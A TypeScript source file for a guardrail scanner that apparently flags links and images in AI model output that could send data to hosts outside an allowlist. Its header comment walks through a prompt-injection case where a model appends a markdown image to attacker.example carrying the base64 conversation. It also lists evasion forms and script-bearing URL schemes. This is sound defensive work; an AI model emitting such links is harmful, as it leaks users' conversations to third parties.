// Exfiltration links in output (OWASP LLM05/LLM02). An injected instruction tells the model to append
// `![](https://attacker.example/p.png?d=<the conversation, base64>)`; the chat UI renders the image and
// the browser sends the data with no click at all. Links need a click but carry data the same way, and
// `javascript:` / HTML `data:` URLs run code. Every destination a renderer could fetch is extracted
// (exfil-links/extract.ts), parsed with the WHATWG URL parser (the one browsers use, so `https:\\evil.io`,
// `//evil.io` and IDN tricks resolve as they would in the client), and checked against the host allowlist.
//
// Scores (the policy maps them to actions; the span is the URL alone so `redact` can cut just the URL):
//   0.95  javascript:/vbscript: URL anywhere
//   0.90  data: URL of an active type (HTML, XML, SVG outside an image, script)
//   0.90  auto-loading destination (image, iframe, script, srcset, CSS url, ...) to an unlisted host, with data
//   0.75  clickable link to an unlisted host with strong data signals (encoded blob, credentials, ...)
//   0.60  auto-loading destination to an unlisted host without data (blockAllImages, default on): zero-click
//         requests reveal the user's IP and that the message was read, and data can hide in the path
//   0.50  clickable link with only weak data signals (long or many parameters), IDN (punycode) host, or a
//         data: URL of another non-image type
//   none  clickable link to an unlisted host without data (a docs page), allowlisted hosts, relative URLs,
//         data: images, schemes browsers do not fetch (mailto:, tel:)
import { z } from 'zod';
import type { Scanner, ScannerFinding } from '../core/types.js';
import { dataSignals, type DataSignalOptions } from './exfil-links/data-signals.js';
import {
  DEFAULT_MAX_LINKS,
  extractLinks,
  MAX_URL_LENGTH,
  type ExtractedLink,
  type LinkKind,
} from './exfil-links/extract.js';
import {
  compileAllowlist,
  EMPTY_ALLOWLIST,
  hostInfo,
  isAllowedHost,
  type Allowlist,
} from './exfil-links/host.js';

export { extractLinks, type ExtractedLink, type LinkKind } from './exfil-links/extract.js';

export interface ExfilLinksOptions extends DataSignalOptions {
  /** Registrable domains (with subdomains), exact hosts, or `*.host` wildcards. Default: none. */
  allowHosts: readonly string[];
  /** Flag auto-loading destinations to unlisted hosts even when the URL carries no data. Default true. */
  blockAllImages: boolean;
  /** Links examined per text; reaching the cap is itself a finding. Default 1000. */
  maxLinks: number;
}

/** The scanner's policy options (`scanners.exfil-links.options`); an absent key takes EXFIL_LINKS_DEFAULTS. */
export const ExfilLinksSettings = z
  .object({
    /** Registrable domains (subdomains included), `*.host`, or exact hosts that links may point to. */
    allowHosts: z.array(z.string().min(1).max(253)).max(10_000).optional(),
    /** Auto-loading images to unlisted hosts are findings even without data in the URL. */
    blockAllImages: z.boolean().optional(),
    maxLinks: z.number().int().min(1).max(100_000).optional(),
    minParamLength: z.number().int().min(4).max(MAX_URL_LENGTH).optional(),
    entropyMin: z.number().min(0).max(16).optional(),
    maxParams: z.number().int().min(0).max(1000).optional(),
  })
  .strict();
export type ExfilLinksSettings = z.infer<typeof ExfilLinksSettings>;

export const EXFIL_LINKS_DEFAULTS: Readonly<ExfilLinksOptions> = {
  allowHosts: [],
  blockAllImages: true,
  maxLinks: DEFAULT_MAX_LINKS,
  minParamLength: 24,
  entropyMin: 3.5,
  maxParams: 5,
};

/** Relative destinations resolve against this; a result still on it is same-origin and harmless. */
const BASE = 'https://rampart.invalid/';
const BASE_HOST = 'rampart.invalid';
const FETCHED = new Set(['http:', 'https:', 'ftp:', 'ws:', 'wss:']);
const SCRIPT_SCHEMES = new Set(['javascript:', 'vbscript:', 'livescript:']);
const INERT_IMAGE_TYPES = new Set([
  'image/png',
  'image/gif',
  'image/jpeg',
  'image/jpg',
  'image/webp',
  'image/avif',
  'image/bmp',
  'image/x-icon',
  'image/vnd.microsoft.icon',
]);
const ACTIVE_TYPES = new Set([
  'text/html',
  'application/xhtml+xml',
  'image/svg+xml',
  'text/xml',
  'application/xml',
  'text/javascript',
  'application/javascript',
  'application/ecmascript',
  'text/ecmascript',
  'application/x-javascript',
]);
const PREFILTER = /[:<]|\]\(|www\.|url\(/i;
const IMAGE_CONTEXT = new Set<LinkKind>(['markdown_image', 'html_img', 'css_url']);

const KIND_TEXT: Record<LinkKind, string> = {
  markdown_image: 'Markdown image',
  markdown_link: 'Markdown link',
  html_img: 'HTML image',
  html_a: 'HTML link',
  html_iframe: 'HTML frame',
  html_other: 'HTML resource',
  css_url: 'CSS url()',
  autolink: 'Autolink',
  bare: 'URL',
  reference: 'Reference-style link',
};

const allowlists = new WeakMap<object, Allowlist>();

function allowlistFor(entries: readonly string[]): Allowlist {
  if (entries.length === 0) return EMPTY_ALLOWLIST;
  let list = allowlists.get(entries);
  if (!list) allowlists.set(entries, (list = compileAllowlist(entries)));
  return list;
}

function isC0OrSpace(c: number): boolean {
  return c <= 0x20;
}

/** What a browser does before parsing: strip leading/trailing C0 controls and spaces, drop tabs and newlines. */
function browserClean(url: string): string {
  let s = 0;
  let e = Math.min(url.length, MAX_URL_LENGTH);
  while (s < e && isC0OrSpace(url.charCodeAt(s))) s++;
  while (e > s && isC0OrSpace(url.charCodeAt(e - 1))) e--;
  const t = url.slice(s, e);
  return t.includes('\t') || t.includes('\n') || t.includes('\r') ? t.replace(/[\t\n\r]/g, '') : t;
}

function parseUrl(raw: string): URL | undefined {
  try {
    return new URL(browserClean(raw), BASE);
  } catch {
    return undefined;
  }
}

function finding(link: ExtractedLink, score: number, signals: string[], message: string): ScannerFinding {
  return {
    category: 'exfil.link',
    score,
    span: [link.span[0], link.span[1]],
    message,
    signals: [link.kind, ...signals],
  };
}

function dataUrl(link: ExtractedLink, url: URL): ScannerFinding | undefined {
  const header = url.pathname.slice(0, Math.max(0, url.pathname.indexOf(',')));
  const mime = (header.split(';')[0] ?? '').trim().toLowerCase() || 'text/plain';
  if (INERT_IMAGE_TYPES.has(mime)) return undefined;
  // SVG scripts do not run when the SVG is loaded as an image; they do in a frame, object or new tab.
  if (
    mime === 'image/svg+xml' &&
    (IMAGE_CONTEXT.has(link.kind) || (link.kind === 'reference' && link.autoLoads))
  ) {
    return undefined;
  }
  const active = ACTIVE_TYPES.has(mime);
  return finding(
    link,
    active ? 0.9 : 0.5,
    ['data_url'],
    `${KIND_TEXT[link.kind]} is a data: URL of type ${active ? 'that can run script' : 'other than an image'}.`,
  );
}

/** The finding for one extracted link, if any. */
export function assessLink(
  link: ExtractedLink,
  opts: ExfilLinksOptions,
  allow: Allowlist,
): ScannerFinding | undefined {
  const url = parseUrl(link.url);
  if (url === undefined) return undefined;
  const scheme = url.protocol;
  if (SCRIPT_SCHEMES.has(scheme)) {
    return finding(link, 0.95, ['javascript_url'], `${KIND_TEXT[link.kind]} runs script (${scheme} URL).`);
  }
  if (scheme === 'data:') return dataUrl(link, url);
  if (!FETCHED.has(scheme)) return undefined;
  const host = url.hostname;
  if (host === BASE_HOST || host.length === 0) return undefined;
  if (isAllowedHost(host, allow)) return undefined;

  const info = hostInfo(host);
  const data = dataSignals(url, info.subdomainLabels, opts);
  const signals = ['not_allowlisted'];
  if (info.isIdn) signals.push('idn_host');
  if (info.isIp) signals.push('ip_host');
  signals.push(...data.strong, ...data.weak);
  const hasData = data.strong.length + data.weak.length > 0;

  let score: number;
  if (link.autoLoads) {
    if (hasData) score = 0.9;
    else if (opts.blockAllImages) score = 0.6;
    else if (info.isIdn) score = 0.5;
    else return undefined;
  } else if (data.strong.length > 0) {
    score = 0.75;
  } else if (hasData || info.isIdn) {
    score = 0.5;
  } else {
    return undefined;
  }
  const what = link.autoLoads ? 'loads automatically from' : 'points to';
  const tail = hasData
    ? ` and carries data in its URL (${[...data.strong, ...data.weak].join(', ')})`
    : info.isIdn
      ? ' with an internationalized (punycode) host name'
      : '';
  return finding(
    link,
    score,
    signals,
    `${KIND_TEXT[link.kind]} ${what} ${info.display}, outside the allowlist${tail}.`,
  );
}

/** All `exfil.link` findings in `text`. */
export function findExfilLinks(text: string, options: Partial<ExfilLinksOptions> = {}): ScannerFinding[] {
  // Prefilter: every destination needs a scheme colon, a markdown `](`, a tag, `url(` or `www.`.
  if (!PREFILTER.test(text)) return [];
  const opts = { ...EXFIL_LINKS_DEFAULTS, ...options };
  const links = extractLinks(text, opts.maxLinks);
  if (links.length === 0) return [];
  const allow = allowlistFor(opts.allowHosts);
  const findings: ScannerFinding[] = [];
  for (const link of links) {
    const f = assessLink(link, opts, allow);
    if (f) findings.push(f);
  }
  if (links.length >= opts.maxLinks) {
    findings.push({
      category: 'exfil.link',
      score: 0.5,
      message: `More than ${opts.maxLinks} links; the rest were not examined.`,
      signals: ['link_limit'],
    });
  }
  return findings;
}

export const exfilLinks = {
  name: 'exfil-links',
  description: 'links and images in output that would send data to a host outside the allowlist',
  options: ExfilLinksSettings,
  stages: ['output', 'tool_call'],
  cost: 'cheap',
  scan: (text, ctx) => findExfilLinks(text, ctx.options),
} satisfies Scanner<ExfilLinksSettings>;
